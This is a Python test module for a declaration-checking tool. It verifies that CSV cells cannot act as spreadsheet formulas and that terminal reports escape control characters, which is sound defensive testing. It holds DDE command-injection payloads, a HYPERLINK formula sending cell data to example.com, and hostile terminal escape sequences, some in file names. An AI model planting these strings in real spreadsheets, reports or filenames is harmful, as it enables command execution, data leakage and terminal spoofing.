"""Declaration text cannot drive a spreadsheet or a terminal through a report.

CSV (the check report and `alcheck stats`): a text cell that a spreadsheet would read as
a formula gets a leading single quote, and so does one that starts with a quote; removing
one leading quote gives the text back (docs/output.md). Text reports: control and format
characters in declaration text are shown escaped; the only control characters a report
holds are the line breaks (and, with colour, the colour codes) it writes itself.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import re
import subprocess
import sys
import unicodedata
from decimal import Decimal, InvalidOperation
from pathlib import Path
from typing import Any

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import alcheck
from alcheck.findings import CheckClass, Finding, Severity
from alcheck.model import Location, lenient_declaration
from alcheck.report import CheckedDeclaration, CheckedFile, RunReport, render_csv, render_text
from alcheck.report.stats_render import render_stats_csv, render_stats_text
from alcheck.stats import compute_stats, format_cell

ROOT = Path(__file__).resolve().parent.parent
PACKAGE_ROOT = Path(alcheck.__file__).resolve().parent.parent

# The documented rule (docs/output.md), written out here rather than imported.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")
OUR_CODES = re.compile(r"\x1b\[(?:0|1|2|31|33|36)m")
DAY = dt.date(2025, 9, 1)


def unquote(cell: str) -> str:
    return cell[1:] if cell.startswith(QUOTE) else cell


def report_of(decls: list[Any], name: str = "input.json") -> RunReport:
    """Check declarations and gather them as the command line does."""
    checked = tuple(
        CheckedDeclaration(r.declaration.id, None, r.judged_on, r.date_source, r.findings)
        for r in alcheck.check(decls, as_of=DAY)
    )
    return RunReport((CheckedFile(name, checked),), alcheck.RuleSet.default().packs, "en", DAY)


def declaration(text: str) -> Any:
    """A declaration whose id and item fields all hold `text` (kept as given when invalid)."""
    return lenient_declaration(
        {
            "id": text,
            "jurisdiction": "US",
            "entry_date": "2025-09-01",
            "regime": "consumption",
            "items": [
                {
                    "line": 1,
                    "tariff_declared": text,
                    "origin": text,
                    "export_country": text,
                    "smelt1": text,
                    "cast": text,
                    "description": text,
                    "value": text,
                    "currency": text,
                    "net_mass_kg": text,
                },
                {"line": 2, "tariff_declared": "7606.12.3090", "origin": text, "smelt1": "CN"},
            ],
        }
    )


def expected_row(file: CheckedFile, decl: CheckedDeclaration, f: Finding) -> list[str]:
    loc = f.location
    return [
        loc.file if loc and loc.file else file.name,
        str(loc.line) if loc and loc.line is not None else "",
        f.declaration_id or "", str(f.item_line) if f.item_line is not None else "",
        f.rule_id, f.severity.value, f.check_class.value, f.message, f.field or "",
        f.value or "", f.hint or "", f.citation or "", f.pack, f.pack_version or "",
        (f.judged_on or decl.judged_on).isoformat(), "true" if f.evaluated else "false",
    ]  # fmt: skip


def assert_csv_report_is_safe(report: RunReport) -> list[list[str]]:
    """Every cell is safe and gives its text back; return the data rows as read."""
    rows = list(csv.reader(io.StringIO(render_csv(report), newline="")))
    header, body = rows[0], rows[1:]
    assert header[:3] == ["file", "line", "declaration_id"]
    findings = report.findings()
    assert len(body) == len(findings)
    for row, (file, decl, f) in zip(body, findings, strict=True):
        for column, cell in zip(header, row, strict=True):
            if column in ("line", "item_line") and NUMBER.fullmatch(cell):
                continue  # a number alcheck writes, read as a number
            assert not cell.startswith(FORMULA_START), (column, cell)
        assert [unquote(c) for c in row] == expected_row(file, decl, f)
    return body


# --- 11. CSV injection ----------------------------------------------------------------------

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com/x?"&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
]


def test_the_check_reports_csv_quotes_formula_cells() -> None:
    for payload in PAYLOADS:
        report = report_of([declaration(payload)], name=payload + ".json")
        body = assert_csv_report_is_safe(report)
        assert body, payload
        assert {row[2] for row in body} == {QUOTE + payload}  # declaration_id
        assert {row[0] for row in body} == {QUOTE + payload + ".json"}  # file
        # The payload reaches the value column of some finding, quoted.
        assert QUOTE + payload in {row[9] for row in body}, payload


def test_an_ordinary_cell_is_written_as_it_is() -> None:
    report = report_of([declaration("Ação 7606 / Øresund (東京)")])
    body = assert_csv_report_is_safe(report)
    assert {row[2] for row in body} == {"Ação 7606 / Øresund (東京)"}
    assert all(row[1] == "" or row[1].isdigit() for row in body)


def test_a_carriage_return_inside_a_cell_does_not_break_the_row() -> None:
    report = report_of([declaration("A-1\r=cmd|' /C calc'!A0\rB")])
    text = render_csv(report)
    # Every row of the file is one row of cells: no bare CR outside a quoted cell.
    assert len(list(csv.reader(io.StringIO(text, newline="")))) == 1 + len(report.findings())
    assert_csv_report_is_safe(report)


formula_texts = st.one_of(
    st.text(max_size=30),
    st.builds(
        lambda head, tail: head + tail,
        st.sampled_from([*FORMULA_START, QUOTE, " =", "\n="]),
        st.text(max_size=30),
    ),
)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(text=formula_texts)
def test_no_declaration_text_reaches_a_csv_cell_as_a_formula(text: str) -> None:
    decl = declaration(text)
    report = report_of([decl], name=text or "input.json")
    body = assert_csv_report_is_safe(report)
    assert body  # the declaration always has findings
    if decl.id:
        assert {unquote(row[2]) for row in body} == {decl.id}


def _stats_rows(text: str) -> dict[str, tuple[list[str], list[list[str]]]]:
    tables: dict[str, tuple[list[str], list[list[str]]]] = {}
    header: list[str] = []
    for row in csv.reader(io.StringIO(text, newline="")):
        if row[0] == "table":
            header = row[1:]
            continue
        tables.setdefault(row[0], (header, []))[1].append(row[1:])
    return tables


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(text=formula_texts)
def test_no_declaration_text_reaches_a_stats_csv_cell_as_a_formula(text: str) -> None:
    stats = compute_stats([declaration(text)])
    read = _stats_rows(render_stats_csv(stats))
    for table in stats.tables():
        header, rows = read.get(table.name, ([c.name for c in table.columns], []))
        assert header == [c.name for c in table.columns]
        assert len(rows) == len(table.rows)
        for cells, values in zip(rows, table.rows, strict=True):
            for cell, value, column in zip(cells, values, table.columns, strict=True):
                if column.kind == "text":
                    assert not cell.startswith(FORMULA_START), (table.name, column.name, cell)
                    assert unquote(cell) == format_cell(value, column.kind)
                else:  # numbers alcheck computes are written as numbers
                    assert cell == format_cell(value, column.kind)
                    if cell:
                        try:
                            Decimal(cell)
                        except InvalidOperation:  # pragma: no cover - the failure
                            raise AssertionError((table.name, column.name, cell)) from None


def test_the_stats_command_writes_a_safe_csv(tmp_path: Path) -> None:
    data = tmp_path / "in.json"
    payload = '=HYPERLINK("http://example.com","x")'
    decl = {
        "id": "D-1", "jurisdiction": "US", "entry_date": "2025-09-01",
        "items": [{"line": 1, "tariff_declared": payload, "origin": "@SUM(1)", "smelt1": "CN",
                   "net_mass_kg": "5"}],
    }  # fmt: skip
    import json

    data.write_text(json.dumps([decl]), encoding="utf-8")
    env = dict(os.environ)
    env["PYTHONPATH"] = os.pathsep.join(p for p in (str(PACKAGE_ROOT), env.get("PYTHONPATH")) if p)
    done = subprocess.run(
        [sys.executable, "-m", "alcheck.cli_stats", str(data), "--format", "csv"],
        capture_output=True, text=True, env=env, cwd=ROOT, check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    cells = [c for row in csv.reader(io.StringIO(done.stdout, newline="")) for c in row]
    assert QUOTE + payload in cells and QUOTE + "@SUM(1)" in cells
    assert not any(c.startswith(FORMULA_START) for c in cells if not NUMBER.fullmatch(c))


def test_csv_rows_are_written_as_the_csv_module_writes_them() -> None:
    from alcheck.report.escape import FORMULA_START as documented
    from alcheck.report.escape import csv_row, spreadsheet_text
    from alcheck.report.escape import unquote as library_unquote

    assert documented == FORMULA_START
    for text in ["", "a", "a,b", 'say "hi"', "x\ny", "x\ry", "\r", "'", "''=", *PAYLOADS]:
        out = io.StringIO()
        csv.writer(out, lineterminator="\n", quoting=csv.QUOTE_ALL).writerow([text, 7])
        row = csv_row([spreadsheet_text(text), 7])
        read = next(csv.reader(io.StringIO(row, newline="")))
        assert [library_unquote(read[0]), read[1]] == [text, "7"]
        assert next(csv.reader(io.StringIO(out.getvalue(), newline=""))) == [text, "7"]
        if "\r" not in text:  # where Python 3.11's writer is right, the rows are the same
            plain = io.StringIO()
            csv.writer(plain, lineterminator="\n").writerow([text, 7])
            assert csv_row([text, 7]) == plain.getvalue()


# --- 12. Terminal escapes -------------------------------------------------------------------


def _unsafe(text: str) -> list[str]:
    """Characters a report must not hold raw: controls other than \\n, format, separators."""
    return [
        ch for ch in text
        if (ch != "\n" and unicodedata.category(ch) in ("Cc", "Cs", "Zl", "Zp"))
        or (unicodedata.category(ch) == "Cf" and ch not in "\u200c\u200d")
    ]  # fmt: skip


def assert_terminal_safe(text: str, *, colour: bool) -> None:
    if colour:
        text = OUR_CODES.sub("", text)
    assert not _unsafe(text), [hex(ord(c)) for c in _unsafe(text)]
    text.encode("utf-8")  # no lone surrogate: a terminal can be written to


hostile = st.lists(
    st.one_of(
        st.characters(categories=["Cc", "Cf", "Zl", "Zp", "Cs"]),
        st.sampled_from(["\x1b[31m", "\x1b]0;title\x07", "\r", "\n", "\x9b2J", "\u202e", "é"]),
        st.characters(),
    ),
    max_size=20,
).map("".join)


def _finding(text: str, **extra: Any) -> Finding:
    return Finding(
        rule_id=text or "R", severity=Severity.ERROR, check_class=CheckClass.RISK,
        message=text, declaration_id=text, field=text, value=text, hint=text or "h",
        location=Location(file=text, line=3, path=text), citation=text, **extra,
    )  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(text=hostile, colour=st.booleans())
def test_the_text_report_escapes_control_characters(text: str, colour: bool) -> None:
    decl = CheckedDeclaration(text, 1, DAY, "as_of", (_finding(text), _finding(text)))
    report = RunReport(
        (
            CheckedFile(text or "f", (decl,), note=text),
            CheckedFile(text or "g", error=text or "e", error_line=2),
        ),
        (),
        "en",
        DAY,
    )
    out = render_text(report, colour=colour)
    assert_terminal_safe(out, colour=colour)
    # The report's own lines only: note, heading, 3 lines per finding, unreadable, summary.
    assert out.count("\n") == 1 + 1 + 2 * 3 + 1 + 1


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(text=hostile)
def test_declarations_read_and_checked_give_a_safe_text_report(text: str) -> None:
    report = report_of([declaration(text)], name=text or "input.json")
    for colour in (False, True):
        assert_terminal_safe(render_text(report, colour=colour), colour=colour)


def test_escapes_are_shown_and_ordinary_text_is_kept() -> None:
    ordinary = "Société Générale — Ñandú, Øresund, 東京, 👩\u200d🔧, n° 7"
    hostile_id = "A\x1b[31mRED\x1b[0m\r\x07\u202eLIVE\u2066x"
    decl = CheckedDeclaration(hostile_id, 1, DAY, "as_of", (_finding(ordinary),))
    report = RunReport((CheckedFile("in.json", (decl,)),), (), "en", DAY)
    out = render_text(report)
    assert ordinary in out
    assert "A\\x1b[31mRED\\x1b[0m\\x0d\\x07\\u202eLIVE\\u2066x" in out
    assert_terminal_safe(out, colour=False)


def test_the_stats_text_report_escapes_control_characters() -> None:
    decl = lenient_declaration(
        {"jurisdiction": "US", "items": [{"tariff_declared": "\x1b[2J\x1b[H76\u202e",
                                          "origin": "\x1b]0;x\x07", "smelt1": "CN",
                                          "net_mass_kg": 1}]}
    )  # fmt: skip
    out = render_stats_text(compute_stats([decl]), errors=["bad\x1b[31m.xml: \rgone"])
    assert_terminal_safe(out, colour=False)
    assert "\\x1b[2J" in out and "bad\\x1b[31m.xml: \\x0dgone" in out


def _run(module: str, *args: str) -> subprocess.CompletedProcess[str]:
    env = dict(os.environ)
    env["PYTHONPATH"] = os.pathsep.join(p for p in (str(PACKAGE_ROOT), env.get("PYTHONPATH")) if p)
    env.pop("ALCHECK_IMPLEMENTATION", None)
    return subprocess.run(
        [sys.executable, "-m", module, *args],
        capture_output=True, text=True, env=env, cwd=ROOT, check=False, errors="surrogateescape",
    )  # fmt: skip


def test_file_names_with_escape_codes_reach_the_terminal_escaped(tmp_path: Path) -> None:
    hostile = "\x1b]0;owned\x07\x1b[2J\u202e"
    good = tmp_path / f"good{hostile}.json"
    good.write_bytes((ROOT / "examples" / "us-bad-codes.json").read_bytes())
    (tmp_path / f"broken{hostile}.xml").write_text("<not xml", encoding="utf-8")
    check = _run("alcheck", "check", str(tmp_path), "--format", "text")
    assert check.returncode == 2, check.stderr
    assert_terminal_safe(check.stdout, colour=False)
    assert "\\x1b]0;owned\\x07\\x1b[2J\\u202e" in check.stdout
    stats = _run("alcheck.cli_stats", str(tmp_path))
    assert stats.returncode == 2
    for out in (stats.stdout, stats.stderr):
        assert_terminal_safe(out, colour=False)
    assert "\\x1b]0;owned" in stats.stderr
